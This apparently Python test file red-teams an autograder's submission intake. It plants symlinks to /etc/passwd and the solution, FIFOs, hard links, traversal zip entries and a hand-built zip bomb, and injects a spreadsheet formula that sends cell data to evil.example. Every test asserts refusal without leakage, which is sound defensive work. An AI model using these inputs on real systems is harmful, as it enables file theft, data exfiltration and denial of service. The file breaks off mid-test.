"""Red team: what a student hands the trusted side (issue 7, items 3, 4, 5, 6 class side and 8).

Each test mounts one class of attack a student can make with files, folders, zip entries,
timestamps and names alone, against the real collect (nbgrader exchange layout and LMS zip), the
submission loader and the class steps after them (gradebook, feedback, class report), and
asserts the exact outcome: what is refused (with one line naming it), that nothing of a refused
file's target reaches any output, that the rest of the class is collected and graded, that a
later collect still works, that memory stays bounded, and that lateness and the CSV cannot be
bent. Grading here is a stand-in around the real submission loader (no sandbox: only what the
trusted side reads matters), except one real ``grade_submission`` of a symlinked solution.
"""
from __future__ import annotations

import csv
import datetime as dt
import io
import json
import os
import re
import shutil
import stat
import struct
import threading
import tracemalloc
import zipfile
import zlib
from pathlib import Path

import nbformat
import pytest
import yaml

from autograder.config import REPO_ROOT, SubmissionLimits, load_course
from autograder.grading.submission import load_submission
from autograder.student_files import scan
from autograder.workflow import grade_class as grade_class_module
from autograder.workflow import class_report as report_module
from autograder.workflow.arrival import student_id_problem
from autograder.workflow.collect import collect, collect_assignment, collected_students
from autograder.workflow.course_copy import write_course_copy
from autograder.workflow.feedback_pages import write_feedback
from autograder.workflow.grade_class import grade_class, read_record_errors
from autograder.workflow.layout import class_report_dir, report_path, reports_dir, submission_dir
from autograder.workflow.gradebook import gradebook_scores
from autograder.workflow.late import parse_timestamp
from autograder.workflow.lms_zip import extended_timestamp
from autograder.workflow.nbgrader_setup import open_gradebook
from autograder.workflow.receipts import read_receipts
from autograder.workflow.release import release_assignment, utc_naive
from autograder.workflow.class_report import problem_submissions, rows_to_csv, write_class_report

ASSIGNMENT = "convolutions"
NOTEBOOK = "convolutions.ipynb"
#: Bytes of a file no student may read (stands for /etc/shadow): grepped for in every output.
SECRET = b"root:$6$SHADOW-d41d8cd98f00b204:19000:0:99999:7:::"
SOLUTION = REPO_ROOT / "solutions" / f"{ASSIGNMENT}.py"


# --- the class: one release (nbgrader's first gradebook costs seconds), a private copy per test ---

@pytest.fixture(scope="module")
def released(tmp_path_factory):
    folder = tmp_path_factory.mktemp("intake") / "curso"
    course = write_course_copy(folder, assignments=[ASSIGNMENT])
    release_assignment(course, ASSIGNMENT, students=["ana"])
    return folder


@pytest.fixture
def course(released, tmp_path):
    shutil.copytree(released, tmp_path / "curso", symlinks=True)
    return load_course(tmp_path / "curso" / "course.yaml")


@pytest.fixture
def no_plots(monkeypatch):
    """The class report without its histograms (matplotlib costs seconds; they are not under test here)."""
    monkeypatch.setattr(report_module, "histograms_png", lambda parts, reports: "")


@pytest.fixture
def secret(tmp_path) -> Path:
    path = tmp_path / "shadow"
    path.write_bytes(SECRET + b"\n")
    return path


def stub_notebook(course) -> bytes:
    """The released notebook, as a student fetches it."""
    return (course.exchange_dir / course.course.id / "outbound" / ASSIGNMENT / NOTEBOOK).read_bytes()


def solution_notebook(course) -> Path:
    """The instructor's solution-form notebook in the course folder: what a symlink would aim at."""
    return course.course_dir / "source" / ASSIGNMENT / NOTEBOOK


def nbgrader_stamp(moment: dt.datetime) -> str:
    return moment.astimezone(dt.timezone.utc).strftime("%Y-%m-%d %H:%M:%S.%f UTC")


def submit_raw(course, student: str, files: dict, *, when: dt.datetime | None = None, tag: str = "0") -> Path:
    """What a student can put in the exchange by hand: inbound/<student>+<assignment>+<time>+<random>/."""
    when = when or dt.datetime.now(dt.timezone.utc)
    folder = course.exchange_dir / course.course.id / "inbound" / f"{student}+{ASSIGNMENT}+{nbgrader_stamp(when)}+{tag}"
    folder.mkdir(parents=True)
    files = {"timestamp.txt": nbgrader_stamp(when).encode(), **files}
    for name, content in files.items():
        target = folder / name
        target.parent.mkdir(parents=True, exist_ok=True)
        if callable(content):
            content(target)
        else:
            target.write_bytes(content)
    return folder


def symlink_to(target: Path):
    return lambda path: path.symlink_to(target)


def fifo(path: Path) -> None:
    os.mkfifo(path)


def hard_link_to(target: Path):
    return lambda path: os.link(target, path)


def stand_in_grade(course, submission: Path, assignment: str, device: str = "cpu") -> dict:
    """The real submission loader, no sandbox: every part found scores full; nothing loadable is 0."""
    spec = course.assignment(assignment)
    sub = load_submission(submission, spec, course.grading.submission_limits)
    parts = {}
    for part, points in spec.parts.items():
        done = sub.error is None and part in sub.parts_found
        parts[part] = {"score": float(points) if done else 0.0, "max_score": float(points), "tests": [
            {"name": "coincide", "passed": done, "kind": "matches_reference", "message": sub.error or "",
             "points": float(points) if done else 0.0, "max_points": float(points)}]}
    return {"assignment": assignment, "score": sum(p["score"] for p in parts.values()),
            "max_score": spec.max_score, "parts": parts, "status": "load_error" if sub.error else "graded",
            "flags": [], "notes": sub.notes, "load_error": sub.error, "timings": {}}


def solution_lines() -> set[str]:
    """Telling lines of the reference's solution regions."""
    text = SOLUTION.read_text(encoding="utf-8")
    lines = set()
    for region in re.findall(r"### BEGIN SOLUTION\n(.*?)### END SOLUTION", text, flags=re.S):
        lines.update(line.strip() for line in region.splitlines() if len(line.strip()) >= 25)
    assert lines, "no solution regions found in the reference"
    return lines


def output_files(course) -> list[Path]:
    """Everything the class steps wrote: the course folder (but the instructor's own source and
    release), the exchange's feedback, the receipts."""
    skip = {course.course_dir / "source", course.course_dir / "release"}
    files = [p for p in course.course_dir.rglob("*")
             if p.is_file() and not p.is_symlink() and not any(p.is_relative_to(s) for s in skip)]
    files += [p for p in (course.exchange_dir / course.course.id / "feedback").rglob("*") if p.is_file()]
    return files


def assert_nothing_leaked(course, *, solution: bool = True) -> None:
    lines = solution_lines() if solution else set()
    passwd = Path("/etc/passwd").read_bytes().splitlines()[0] if Path("/etc/passwd").is_file() else None
    outputs = output_files(course)
    assert outputs
    for path in outputs:
        data = path.read_bytes()
        assert SECRET not in data, f"{path} holds the secret's bytes"
        assert passwd is None or passwd not in data, f"{path} holds /etc/passwd's first line"
        if path.suffix != ".db":  # the gradebook keeps nbgrader's copy of the source cells
            text = data.decode("utf-8", "replace")
            assert not [line for line in lines if line in text], f"{path} holds reference code"


def with_timeout(function, seconds: float = 20):
    """Run ``function`` in a thread; fail (instead of hanging the suite) when it blocks."""
    result, error = [], []
    thread = threading.Thread(target=lambda: _capture(function, result, error), daemon=True)
    thread.start()
    thread.join(seconds)
    assert not thread.is_alive(), "blocked: a FIFO was opened?"
    if error:
        raise error[0]
    return result[0]


def _capture(function, result, error):
    try:
        result.append(function())
    except BaseException as exc:  # noqa: BLE001 - re-raised in the test's thread
        error.append(exc)


def skipped_lines(message: str) -> list[str]:
    return [line.strip()[len("omitido: "):] for line in message.splitlines() if line.strip().startswith("omitido: ")]


# --- loading a submission: only regular files, never a link's target, never a file's bytes in an error ---

def test_symlinked_reference_solution_is_refused_and_scores_nothing(tmp_path):
    from autograder.grading.api import grade_submission

    folder = tmp_path / "entrega"
    folder.mkdir()
    (folder / "convolutions.py").symlink_to(SOLUTION)
    report = grade_submission(load_course(), folder, ASSIGNMENT)
    assert report["score"] == 0 and report["status"] == "load_error"
    assert "convolutions.py" in report["load_error"] and "enlace simbólico" in report["load_error"]
    shown = json.dumps(report, ensure_ascii=False)
    assert not [line for line in solution_lines() if line in shown]


def _mknod(path: Path) -> None:
    try:
        os.mknod(path, stat.S_IFCHR | 0o600, os.makedev(1, 3))  # /dev/null's numbers
    except (PermissionError, OSError) as exc:
        pytest.skip(f"cannot make a device here ({exc})")


@pytest.mark.parametrize("attack", ["passwd_py", "passwd_ipynb", "secret_in_subfolder_link", "fifo", "hard_link",
                                    "device", "folder_is_a_link"])
def test_links_and_special_files_are_refused_unread(tmp_path, secret, attack):
    folder = tmp_path / "entrega"
    folder.mkdir()
    outside = tmp_path / "fuera"
    outside.mkdir()
    (outside / "convolutions.py").write_bytes(SECRET)
    target, name = folder, "convolutions.py"
    if attack == "passwd_py":
        (folder / name).symlink_to("/etc/passwd")
    elif attack == "passwd_ipynb":
        name = NOTEBOOK
        (folder / name).symlink_to("/etc/passwd")
    elif attack == "secret_in_subfolder_link":
        (folder / "sub").symlink_to(outside, target_is_directory=True)
        name = "sub"
    elif attack == "fifo":
        name = NOTEBOOK
        os.mkfifo(folder / name)
    elif attack == "hard_link":
        os.link(secret, folder / name)
    elif attack == "device":
        name = NOTEBOOK
        _mknod(folder / name)
    elif attack == "folder_is_a_link":
        target = tmp_path / "enlace"
        target.symlink_to(outside, target_is_directory=True)
        name = "enlace"
    sub = with_timeout(lambda: load_submission(target, ASSIGNMENT))
    assert sub.error is not None
    said = " ".join([sub.error, *sub.notes, sub.source])
    assert name in said
    reason = {"fifo": "FIFO", "hard_link": "enlace duro", "device": "dispositivo"}.get(attack, "enlace simbólico")
    assert reason in said
    assert SECRET.decode() not in said
    assert Path("/etc/passwd").read_text().splitlines()[0] not in said


def test_oversized_archived_and_undecodable_files_are_named_not_read(tmp_path):
    limits = SubmissionLimits(file_mb=1)
    big = tmp_path / "grande"
    big.mkdir()
    with open(big / NOTEBOOK, "wb") as handle:  # sparse: 25 MB that costs nothing to make
        handle.truncate(25 * 2**20)
    sub = load_submission(big, ASSIGNMENT, limits)
    assert sub.error is not None and "pesa 25 MB" in sub.error + " ".join(sub.notes)

    packed = tmp_path / "comprimido"
    packed.mkdir()
    with zipfile.ZipFile(packed / NOTEBOOK, "w") as archive:  # a zip with a notebook's name
        archive.writestr("otro/convolutions.ipynb", SECRET)
    sub = load_submission(packed / NOTEBOOK, ASSIGNMENT)
    assert "comprimido" in sub.error and SECRET.decode() not in sub.error

    garbled = tmp_path / "convolutions.py"
    garbled.write_bytes(b"\xff\xfe" + SECRET)
    sub = load_submission(garbled, ASSIGNMENT)
    assert "UTF-8" in sub.error and "posición 0" in sub.error
    assert SECRET.decode() not in " ".join([sub.error, *sub.notes])


def test_a_submission_beyond_its_total_or_file_count_is_cut_with_a_note(tmp_path):
    folder = tmp_path / "entrega"
    folder.mkdir()
    for i in range(3):
        with open(folder / f"datos{i}.bin", "wb") as handle:
            handle.truncate(2 * 2**20)
    tree = scan(folder, SubmissionLimits(file_mb=3, submission_mb=5))
    assert sorted(tree.files) == ["datos0.bin", "datos1.bin"]
    assert [r.path for r in tree.refused] == ["datos2.bin"] and "en total" in tree.refused[0].reason
    tree = scan(folder, SubmissionLimits(files=2), read=lambda relpath: False)
    assert len(tree.files) == 2 and "más de 2 archivos" in tree.refused[0].reason


# --- the exchange: nbgrader's collect would copy link targets (and abort on a FIFO); ours refuses them ---

def test_exchange_collect_copies_no_link_target_and_the_class_goes_on(course, secret, tmp_path):
    notebook = stub_notebook(course)
    submit_raw(course, "ana", {NOTEBOOK: notebook})
    # bruno: the solution-form notebook and /etc/shadow, by link; the reference by hard link would need
    # the same file system and the grader's file: the secret stands for it.
    submit_raw(course, "bruno", {NOTEBOOK: symlink_to(solution_notebook(course)),
                                 "timestamp.txt": symlink_to(secret), "notas.txt": hard_link_to(secret)})
    elsewhere = tmp_path / "carpeta_de_otro"
    elsewhere.mkdir()
    (elsewhere / NOTEBOOK).symlink_to(solution_notebook(course))
    (course.exchange_dir / course.course.id / "inbound" / f"carla+{ASSIGNMENT}+2026-12-01 10:00:00.000000 UTC+1").symlink_to(elsewhere)
    submit_raw(course, "diego", {NOTEBOOK: notebook, "tuberia": fifo, "datos.zip": b"PK\x03\x04" + SECRET,
                                 "sub/solucion.py": symlink_to(SOLUTION)})
    submit_raw(course, "..", {NOTEBOOK: notebook})

    message = with_timeout(lambda: collect_assignment(course, ASSIGNMENT))
    assert collected_students(course, ASSIGNMENT) == ["ana", "bruno", "diego"]
    lines = skipped_lines(message)
    for entry, reason in [(f"bruno+{ASSIGNMENT}", f"{NOTEBOOK}: es un enlace simbólico"),
                          (f"bruno+{ASSIGNMENT}", "timestamp.txt: es un enlace simbólico"),
                          (f"bruno+{ASSIGNMENT}", "notas.txt: es un enlace duro"),
                          (f"carla+{ASSIGNMENT}", "es un enlace simbólico"),
                          (f"diego+{ASSIGNMENT}", "tuberia: es una tubería con nombre"),
                          (f"diego+{ASSIGNMENT}", "datos.zip: es un archivo comprimido"),
                          (f"diego+{ASSIGNMENT}", "sub/solucion.py: es un enlace simbólico"),
                          (f"..+{ASSIGNMENT}", "el identificador de estudiante debe empezar")]:
        assert len([line for line in lines if line.startswith(entry) and reason in line]) == 1, (entry, reason, lines)
    assert len(lines) == 8
    assert sorted(os.listdir(submission_dir(course, ASSIGNMENT, "bruno"))) == ["timestamp.txt"]  # the receipt's time
    assert sorted(os.listdir(submission_dir(course, ASSIGNMENT, "diego"))) == [NOTEBOOK, "timestamp.txt"]

    run = grade_class(course, ASSIGNMENT, grade=stand_in_grade)
    assert run.reports["ana"].score == 90 and run.reports["diego"].score == 90
    bruno = run.reports["bruno"]
    assert bruno.score == 0 and bruno.status == "load_error"
    assert any("«convolutions.ipynb»: es un enlace simbólico" in note for note in bruno.notes)
    assert [f.kind for f in bruno.flags] == ["refused_file"]
    write_feedback(course, ASSIGNMENT)
    write_class_report(course, ASSIGNMENT)
    assert "collect rechazó archivos" in (class_report_dir(course, ASSIGNMENT) / "index.html").read_text()
    assert_nothing_leaked(course)

    # A later collect (nothing new) changes nothing and still works.
    again = collect(course, ASSIGNMENT)
    assert again.collected == [] and again.unchanged == ["ana", "bruno", "diego"]


def test_an_inbound_folder_made_by_another_user_does_not_speak_for_the_student(course):
    notebook = stub_notebook(course)
    own = submit_raw(course, "bruno", {NOTEBOOK: notebook}, when=dt.datetime(2026, 12, 1, tzinfo=dt.timezone.utc))
    forged = submit_raw(course, "bruno", {NOTEBOOK: notebook.replace(b"NotImplementedError", b"ValueError")},
                        when=dt.datetime(2026, 12, 2, tzinfo=dt.timezone.utc), tag="1")  # newer: it would win
    try:
        for path in [forged, *forged.iterdir()]:
            os.lchown(path, 65534, 65534)  # made by another student's account ("nobody" here)
    except PermissionError:
        pytest.skip("needs root to give a folder another owner")
    lines = skipped_lines(collect_assignment(course, ASSIGNMENT))
    assert lines == [f"{forged.name}: la carpeta es del usuario nobody, no de bruno"]
    assert (submission_dir(course, ASSIGNMENT, "bruno") / NOTEBOOK).read_bytes() == notebook  # bruno's own
    assert read_receipts(course, ASSIGNMENT)["bruno"].origin == own.name


def _late_course(course, days_ago: float):
    """The course with its due date ``days_ago`` days in the past (course.yaml and the gradebook)."""
    due = (dt.datetime.now(dt.timezone.utc) - dt.timedelta(days=days_ago)).replace(microsecond=0)
    path = course.root / "course.yaml"
    data = yaml.safe_load(path.read_text(encoding="utf-8"))
    data["assignments"][0]["due"] = due.isoformat()
    path.write_text(yaml.safe_dump(data, allow_unicode=True, sort_keys=False), encoding="utf-8")
    with open_gradebook(course) as gradebook:
        gradebook.update_or_create_assignment(ASSIGNMENT, duedate=utc_naive(due))
    return load_course(path), due


def test_rewritten_timestamp_keeps_the_late_penalty_and_is_flagged(course):
    course, due = _late_course(course, days_ago=29.5)
    forged = due - dt.timedelta(hours=1)  # timestamp.txt and the folder's name both claim "on time"
    submit_raw(course, "ana", {NOTEBOOK: stub_notebook(course)}, when=forged)

    collect_assignment(course, ASSIGNMENT)
    receipt = read_receipts(course, ASSIGNMENT)["ana"]
    assert receipt.claimed_at == forged and receipt.received > due + dt.timedelta(days=29)
    # nbgrader's own tools (formgrader, export) read submitted/.../timestamp.txt: it holds the receipt's time.
    stamp = (submission_dir(course, ASSIGNMENT, "ana") / "timestamp.txt").read_text()
    assert parse_timestamp(stamp) == receipt.received
    report = grade_class(course, ASSIGNMENT, grade=stand_in_grade).reports["ana"]
    assert report.late.days_late == 30 and report.late.penalty == pytest.approx(45.0)  # capped at 50 %
    assert report.final_score == pytest.approx(45.0)
    mismatch = [f for f in report.flags if f.kind == "timestamp_mismatch"]
    assert len(mismatch) == 1 and "el atraso se calcula con la recepción" in mismatch[0].message
    with open_gradebook(course) as gradebook:
        assert gradebook_scores(course, ASSIGNMENT, gradebook)["ana"]["late_penalty"] == pytest.approx(45.0)
    kinds = {(p["student"], p["kind"]) for p in problem_submissions({"ana": report})}
    assert ("ana", "timestamp.txt no coincide con la recepción") in kinds


def test_receipt_follows_the_bytes_not_the_folder(course):
    course, due = _late_course(course, days_ago=2)
    folder = submit_raw(course, "ana", {NOTEBOOK: stub_notebook(course)}, when=due - dt.timedelta(days=1))
    seen_on_time = due - dt.timedelta(hours=20)  # collect ran then (a daily cron, say) and saw these bytes
    collect(course, ASSIGNMENT, now=seen_on_time)
    assert read_receipts(course, ASSIGNMENT)["ana"].received == seen_on_time
    collect(course, ASSIGNMENT)  # the same bytes, seen again: still received when first seen
    assert read_receipts(course, ASSIGNMENT)["ana"].received == seen_on_time

    # After the due date the student changes the notebook in place (the inbound folder is theirs).
    (folder / NOTEBOOK).write_bytes(stub_notebook(course).replace(b"NotImplementedError", b"ValueError"))
    collect(course, ASSIGNMENT)
    assert read_receipts(course, ASSIGNMENT)["ana"].received > due
    assert grade_class(course, ASSIGNMENT, grade=stand_in_grade).reports["ana"].late.days_late >= 1


def test_timestamp_parser_never_opens_a_path(tmp_path):
    pipe = tmp_path / "tz"
    os.mkfifo(pipe)  # nbgrader's parse_utc would hand this to dateutil.tz.gettz, which opens it and blocks
    assert with_timeout(lambda: parse_timestamp(f"2026-12-01 10:00:00.000000 {pipe}")) is None
    assert parse_timestamp("2026-12-01 10:00:00.5 UTC") == dt.datetime(2026, 12, 1, 10, 0, 0, 500000, dt.timezone.utc)
    assert parse_timestamp("2026-12-01 10:00:00 -0300") == dt.datetime(2026, 12, 1, 13, tzinfo=dt.timezone.utc)


# --- the LMS zip: one bad entry costs its own student only ---

def _entry(name: str, data: bytes, when: dt.datetime, *, symlink: bool = False) -> tuple[zipfile.ZipInfo, bytes]:
    info = zipfile.ZipInfo(name, date_time=when.astimezone(dt.timezone.utc).timetuple()[:6])
    info.extra = extended_timestamp(when)
    info.compress_type = zipfile.ZIP_DEFLATED
    if symlink:
        info.create_system = 3
        info.external_attr = (stat.S_IFLNK | 0o777) << 16
    return info, data


def _write_zip(path: Path, entries) -> Path:
    with zipfile.ZipFile(path, "w") as archive:
        for info, data in entries:
            archive.writestr(info, data)
    return path


def test_zip_bad_entries_cost_their_own_student_only(course, tmp_path):
    notebook = stub_notebook(course)
    newer = notebook.replace(b"NotImplementedError", b"ValueError")
    day = dt.datetime(2026, 12, 5, 12, tzinfo=dt.timezone.utc)
    inner = io.BytesIO()
    with zipfile.ZipFile(inner, "w") as nested:  # diego's nested zip speaks for erika, who never submitted
        nested.writestr("erika/convolutions.ipynb", notebook)
    lms = _write_zip(tmp_path / "moodle.zip", [
        _entry("ana/convolutions.ipynb", notebook, day),
        _entry("../escape_convolutions.ipynb", notebook, day),
        _entry("/abs_convolutions.ipynb", notebook, day),
        _entry("bruno/../../fuera.ipynb", notebook, day),
        _entry("fabi\\..\\x_convolutions.ipynb", notebook, day),
        _entry("carla_convolutions.ipynb", notebook, day),
        _entry("carla/convolutions.ipynb", newer, day + dt.timedelta(hours=3)),
        _entry("diego/convolutions.ipynb", notebook, day),
        _entry("diego/extra.zip", inner.getvalue(), day),
        _entry("diego/erika/convolutions.ipynb", notebook, day),
        _entry("gina/convolutions.ipynb", b"/etc/passwd", day, symlink=True),
        _entry("hector/convolutions.ipynb", inner.getvalue(), day),
        _entry("__MACOSX/ana/._convolutions.ipynb", b"\x00", day),
        _entry("README.txt", b"hola", day),
    ])
    # What an older collect left in the course folder must not matter (nbgrader re-extracted it).
    stale = course.course_dir / "downloaded" / ASSIGNMENT / "archive"
    stale.mkdir(parents=True)
    _write_zip(stale / "viejo.zip", [_entry("../../../roto.ipynb", notebook, day)])

    message = collect_assignment(course, ASSIGNMENT, lms_zip=lms)
    assert collected_students(course, ASSIGNMENT) == ["ana", "carla", "diego"]
    lines = skipped_lines(message)
    expected = {
        "../escape_convolutions.ipynb": "ruta insegura", "/abs_convolutions.ipynb": "ruta insegura",
        "bruno/../../fuera.ipynb": "ruta insegura", "fabi\\..\\x_convolutions.ipynb": "ruta insegura",
        "carla_convolutions.ipynb": "otra entrega de carla, anterior a carla/convolutions.ipynb",
        "diego/extra.zip": "archivo comprimido", "diego/erika/convolutions.ipynb": "subcarpeta",
        "gina/convolutions.ipynb": "enlace simbólico", "hector/convolutions.ipynb": "comprimido",
        "__MACOSX/ana/._convolutions.ipynb": "macOS", "README.txt": "no dice de quién es",
    }
    assert len(lines) == len(expected), lines
    for entry, reason in expected.items():
        assert len([line for line in lines if line.startswith(f"{entry}: ") and reason in line]) == 1, (entry, lines)
    assert (submission_dir(course, ASSIGNMENT, "carla") / NOTEBOOK).read_bytes() == newer  # the newest by the zip's dates
    assert any("se calificó «carla/convolutions.ipynb», el más reciente" in n for n in read_receipts(course, ASSIGNMENT)["carla"].notes)
    # Nothing landed outside submitted/<student>/<assignment>/.
    assert not list(tmp_path.rglob("escape_convolutions.ipynb")) and not list(tmp_path.rglob("fuera.ipynb"))
    assert not list(tmp_path.rglob("roto.ipynb"))
    assert sorted(p.name for p in (course.course_dir / "submitted").iterdir()) == ["ana", "carla", "diego"]
    assert read_receipts(course, ASSIGNMENT)["ana"].received == day

    # A later collect with a good zip works, and keeps those already collected.
    later = _write_zip(tmp_path / "moodle2.zip", [_entry("ines_convolutions.ipynb", notebook, day)])
    collect_assignment(course, ASSIGNMENT, lms_zip=later)
    assert collected_students(course, ASSIGNMENT) == ["ana", "carla", "diego", "ines"]
    run = grade_class(course, ASSIGNMENT, grade=stand_in_grade)
    assert {s: r.score for s, r in run.reports.items()} == {"ana": 90, "carla": 90, "diego": 90, "ines": 90}


def _bomb_zip(path: Path, name: str, gib: int = 1, *, claimed_size: int | None = None) -> Path:
    """A zip whose one entry inflates ``gib`` GiB of zeros from about 1 MB (raw deflate, built by hand),
    its header claiming ``claimed_size`` (default: the truth)."""
    zeros = bytes(1 << 20)
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    block = compressor.compress(zeros) + compressor.flush(zlib.Z_FULL_FLUSH)
    blocks = 1024 * gib
    data = block * blocks + compressor.flush(zlib.Z_FINISH)
    crc = 0
    for _ in range(blocks):
        crc = zlib.crc32(zeros, crc)
    size = blocks << 20 if claimed_size is None else claimed_size
    raw = name.encode()
    zip64 = size >= 0xFFFFFFFF
    extra = struct.pack("<HHQQ", 1, 16, size, len(data)) if zip64 else b""
    shown_size, shown_comp = (0xFFFFFFFF, 0xFFFFFFFF) if zip64 else (size, len(data))
    local = struct.pack("<IHHHHHIIIHH", 0x04034B50, 45, 0, 8, 0, 0x5921, crc, shown_comp, shown_size, len(raw), len(extra)) + raw + extra
    central = struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 45, 45, 0, 8, 0, 0x5921, crc, shown_comp, shown_size,
                          len(raw), len(extra), 0, 0, 0, 0, 0) + raw + extra
    offset = len(local) + len(data)
    end = struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, 1, 1, len(central), offset, 0)
    path.write_bytes(local + data + central + end)
    return path


def test_zip_bomb_is_refused_while_streaming_with_bounded_memory(course, tmp_path):
    honest = _bomb_zip(tmp_path / "bomba.zip", "bomba/convolutions.ipynb")
    assert honest.stat().st_size < 2 * 2**20
    # This header lies (says 15 MB, under the 20 MB cap): the bytes are counted as they come.
    liar = _bomb_zip(tmp_path / "mentira.zip", "mentira/convolutions.ipynb", claimed_size=15 * 2**20)
    tracemalloc.start()
    try:
        message = collect_assignment(course, ASSIGNMENT, lms_zip=honest)
        message += "\n" + collect_assignment(course, ASSIGNMENT, lms_zip=liar)
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert peak < 64 * 2**20, f"collect held {peak / 2**20:.0f} MiB"
    lines = skipped_lines(message)
    assert len(lines) == 2
    assert lines[0].startswith("bomba/convolutions.ipynb: descomprimido pesaría 1024 MB; el máximo es 20 MB")
    assert lines[1].startswith("mentira/convolutions.ipynb: ")
    assert collected_students(course, ASSIGNMENT) == []
    assert not (course.course_dir / "submitted").exists() or not any((course.course_dir / "submitted").iterdir())


def test_zip_total_and_ratio_are_counted_as_the_archive_is_read(course, tmp_path):
    path = course.root / "course.yaml"
    data = yaml.safe_load(path.read_text(encoding="utf-8"))
    data["grading"]["submission_limits"] = {"file_mb": 4, "archive_mb": 2.5, "compression_ratio": 50}
    path.write_text(yaml.safe_dump(data, allow_unicode=True, sort_keys=False), encoding="utf-8")
    course = load_course(path)
    day = dt.datetime(2026, 12, 5, 12, tzinfo=dt.timezone.utc)
    padding = b'{"cells": [], "pad": "' + b"0" * (900 * 1024) + b'"}'  # 0.9 MB each, under the ratio floor
    entries = [_entry(f"e{i}/convolutions.ipynb", padding, day) for i in range(4)]
    entries.append(_entry("zz/convolutions.ipynb", b'{"x": "' + b"0" * (3 * 2**20) + b'"}', day))  # 3 MB at ~1000x
    message = collect_assignment(course, ASSIGNMENT, lms_zip=_write_zip(tmp_path / "lms.zip", entries))
    assert collected_students(course, ASSIGNMENT) == ["e0", "e1"]
    lines = skipped_lines(message)
    by_entry = {line.split(": ", 1)[0]: line.split(": ", 1)[1] for line in lines}
    assert sorted(by_entry) == ["e2/convolutions.ipynb", "e3/convolutions.ipynb", "zz/convolutions.ipynb"]
    assert "descomprimido en total" in by_entry["e2/convolutions.ipynb"] and "descomprimido en total" in by_entry["e3/convolutions.ipynb"]
    assert "se expandiría más de 50 veces" in by_entry["zz/convolutions.ipynb"]


def test_student_ids_that_are_not_names_are_refused(course, tmp_path):
    for bad in ["..", ".", "", "a/b", "a\x00b", "=HYPERLINK(\"http://x\")", "+1", "-1", "@SUM(A1)", "ana\tb",
                "ana\r", ".oculto", "ana<b>", "a" * 65, "ana ", "Jose\u0301"]:
        assert student_id_problem(bad), repr(bad)
    for good in ["ana", "ana.perez", "a_b", "ana-1", "ana@uni.cl", "José", "Ana Pérez", "s12345"]:
        assert student_id_problem(good) is None, good
    day = dt.datetime(2026, 12, 5, 12, tzinfo=dt.timezone.utc)
    notebook = stub_notebook(course)
    lms = _write_zip(tmp_path / "ids.zip", [
        _entry(".._convolutions.ipynb", notebook, day), _entry("_convolutions.ipynb", notebook, day),
        _entry('=HYPERLINK("x")_convolutions.ipynb', notebook, day), _entry("ana_convolutions.ipynb", notebook, day),
    ])
    lines = skipped_lines(collect_assignment(course, ASSIGNMENT, lms_zip=lms))
    assert collected_students(course, ASSIGNMENT) == ["ana"]
    assert len(lines) == 3 and all("identificador de estudiante" in line for line in lines)


# --- spreadsheets: a cell a student controls never runs as a formula ---

def test_csv_cells_a_student_controls_are_neutralised(course, no_plots):
    hostile = ['=HYPERLINK("http://evil.example/?"&A1,"ver")', "+1+1", "-2+3", "@SUM(A1:A9)", "\tx", "\rx"]
    rows = [{"student": s, "p": 1.0, "total": 1.0, "late_penalty": 0.0, "final": 1.0, "status": "graded"} for s in hostile]
    rows.append({"student": "ana", "p": 2.5, "total": 2.5, "late_penalty": 0.0, "final": 2.5, "status": "graded"})
    text = rows_to_csv(["p"], rows)
    parsed = list(csv.DictReader(io.StringIO(text)))
    assert [r["student"] for r in parsed] == ["'" + s for s in hostile] + ["ana"]
    assert '"\'=HYPERLINK(""http://evil.example/?""&A1,""ver"")"' in text  # quoted, its quotes escaped
    assert text.splitlines()[-1] == '"ana",2.5,2.5,0.0,2.5,"graded","","","",""'  # numbers stay numbers

    # Through the class report: an id on the roster (an instructor's import from the LMS) and a report.
    with open_gradebook(course) as gradebook:
        gradebook.update_or_create_student(hostile[0])
    folder = reports_dir(course, ASSIGNMENT)
    folder.mkdir(parents=True)
    (folder / "-1+1.json").write_text(json.dumps({"assignment": ASSIGNMENT, "status": "graded", "score": 1.0,
                                                         "max_score": 90.0, "parts": {}}), encoding="utf-8")
    write_class_report(course, ASSIGNMENT)
    cells = [row["student"] for row in csv.DictReader((class_report_dir(course, ASSIGNMENT) / f"{ASSIGNMENT}.csv").open())]
    assert "'" + hostile[0] in cells and "'-1+1" in cells and "ana" in cells
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]


# --- recording: a failure to record one result is a grader error, never that student's 0 ---

def test_a_failed_gradebook_write_is_retried_then_reported_never_zeroed(course, monkeypatch, no_plots):
    notebook = stub_notebook(course)
    submit_raw(course, "ana", {NOTEBOOK: notebook})
    submit_raw(course, "ines", {NOTEBOOK: notebook + b" "})
    submit_raw(course, "luis", {NOTEBOOK: notebook + b"  "})
    collect_assignment(course, ASSIGNMENT)
    real = grade_class_module.record_report
    calls = {"ana": 0, "ines": 0}

    def flaky(gradebook, course_, assignment, student, report, timestamp):
        if student in calls:
            calls[student] += 1
            if student == "ines" or calls[student] == 1:  # ana fails once (retried), ines always
                raise RuntimeError("database is locked")
        return real(gradebook, course_, assignment, student, report, timestamp)

    monkeypatch.setattr(grade_class_module, "record_report", flaky)
    run = grade_class(course, ASSIGNMENT, grade=stand_in_grade)
    assert calls == {"ana": 2, "ines": 2}
    assert list(run.record_errors) == ["ines"] and "database is locked" in run.record_errors["ines"]
    ines = run.reports["ines"]
    assert ines.status == "graded" and ines.score == 90 and ines.final_score == 90
    assert "database is locked" in ines.record_error
    with open_gradebook(course) as gradebook:
        stored = gradebook_scores(course, ASSIGNMENT, gradebook)
    assert stored["ana"]["score"] == 90 and stored["luis"]["score"] == 90 and "ines" not in stored
    write_class_report(course, ASSIGNMENT)
    rows = {r["student"]: r for r in csv.DictReader((class_report_dir(course, ASSIGNMENT) / f"{ASSIGNMENT}.csv").open())}
    assert rows["ines"]["status"] == "record_error" and float(rows["ines"]["total"]) == 90
    assert rows["ana"]["status"] == "graded"
    page = (class_report_dir(course, ASSIGNMENT) / "index.html").read_text()
    assert "el calificador no pudo registrar el resultado" in page

    monkeypatch.setattr(grade_class_module, "record_report", real)  # the next run records it
    run = grade_class(course, ASSIGNMENT, grade=stand_in_grade)
    assert run.record_errors == {} and run.reports["ines"].record_error is None
    assert "record_error" not in json.loads(report_path(course, ASSIGNMENT, "ines").read_text())
    with open_gradebook(course) as gradebook:
